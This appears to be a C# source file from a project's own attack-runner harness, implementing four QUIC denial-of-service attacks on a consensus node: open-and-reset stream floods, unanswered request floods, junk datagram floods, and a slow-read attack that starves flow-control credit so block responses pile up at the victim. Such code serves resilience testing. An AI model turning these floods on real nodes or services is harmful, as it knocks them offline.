using System.Buffers.Binary;
using System.Runtime.InteropServices;
using Aether.Core;
using Aether.Core.Codec;
using Aether.Core.Types;
using Aether.Native.Quic;
using Aether.Network.Transport;

namespace Aether.AttackRunner.Attacks;

/// <summary>Streams and datagrams that are each as the transport says, and too many, or never read.</summary>
internal sealed class StreamAttacks : RawPeer
{
    private const int PerSecond = 20_000;
    private const int AsksPerSecond = 300;
    private const int NarrowWindow = 2_048;
    private const int DatagramBytes = 1_100;

    private readonly Kind _kind;
    private readonly Pace _pace;
    private readonly Dictionary<ulong, long> _streams = [];
    private int _frameBytes;

    private StreamAttacks(Tally tally, Kind kind, int perSecond)
        : base(tally)
    {
        _kind = kind;
        _pace = new Pace(perSecond);
    }

    private enum Kind
    {
        Resets,
        Requests,
        Datagrams,
        Unread,
    }

    /// <inheritdoc/>
    protected override int Window => _kind == Kind.Unread ? NarrowWindow : base.Window;

    /// <summary>Opens streams of requests as fast as they are given, and takes each back at once.</summary>
    public static void Resets(AttackSite site, Tally tally) =>
        new StreamAttacks(tally, Kind.Resets, PerSecond).Attack(site);

    /// <summary>Whole requests that nobody answers.</summary>
    public static void Requests(AttackSite site, Tally tally) =>
        new StreamAttacks(tally, Kind.Requests, PerSecond).Attack(site);

    /// <summary>Datagrams without meaning.</summary>
    public static void Datagrams(AttackSite site, Tally tally) =>
        new StreamAttacks(tally, Kind.Datagrams, PerSecond).Attack(site);

    /// <summary>Asks for blocks and gives no credit for the answers: they wait at the victim.</summary>
    public static void Unread(AttackSite site, Tally tally) =>
        new StreamAttacks(tally, Kind.Unread, AsksPerSecond).Attack(site);

    /// <inheritdoc/>
    protected override void Fill()
    {
        byte[] ask = Ace.Encode(ConsensusMessage.Of(new BlocksRequest(1, Limits.Consensus.MaxBlocksPerRequest)));
        byte[] frame = new byte[5 + ask.Length];
        frame[0] = (byte)MessageClass.Votes;
        BinaryPrimitives.WriteInt32LittleEndian(frame.AsSpan(1), ask.Length);
        ask.CopyTo(frame, 5);
        _frameBytes = frame.Length;
        Marshal.Copy(frame, 0, Buffer, frame.Length);
    }

    /// <inheritdoc/>
    protected override void Begin(ulong connection)
    {
        if (_kind == Kind.Unread && Socket.Open(connection, false, 0, out long stream) == QuicStatus.Ok)
        {
            _streams[connection] = stream;
            Socket.Send(connection, stream, Buffer, 1, false, 0);
        }
    }

    /// <inheritdoc/>
    protected override void Continue()
    {
        int left = _pace.Take();
        while (left > 0 && Standing.Count > 0)
        {
            int sent = 0;
            foreach (ulong connection in Standing.ToArray())
            {
                sent += SendOne(connection) ? 1 : 0;
            }
            if (sent == 0)
            {
                return;
            }
            Tally.Sent += sent;
            left -= sent;
        }
    }

    private bool SendOne(ulong connection)
    {
        switch (_kind)
        {
            case Kind.Datagrams:
                return Socket.SendDatagram(connection, Buffer, DatagramBytes, 0) == QuicStatus.Ok;
            case Kind.Unread:
                return _streams.TryGetValue(connection, out long votes)
                    && Socket.Send(connection, votes, Buffer + 1, _frameBytes - 1, false, 0) == QuicStatus.Ok;
            default:
                if (Socket.Open(connection, true, 0, out long stream) != QuicStatus.Ok)
                {
                    return false;
                }
                Socket.Send(connection, stream, Buffer, 8, isLast: _kind == Kind.Requests, 0);
                if (_kind == Kind.Resets)
                {
                    // Written first, or nothing of the stream is ever seen.
                    Socket.Poll(0);
                    Socket.Reset(connection, stream, 0);
                }
                return true;
        }
    }
}
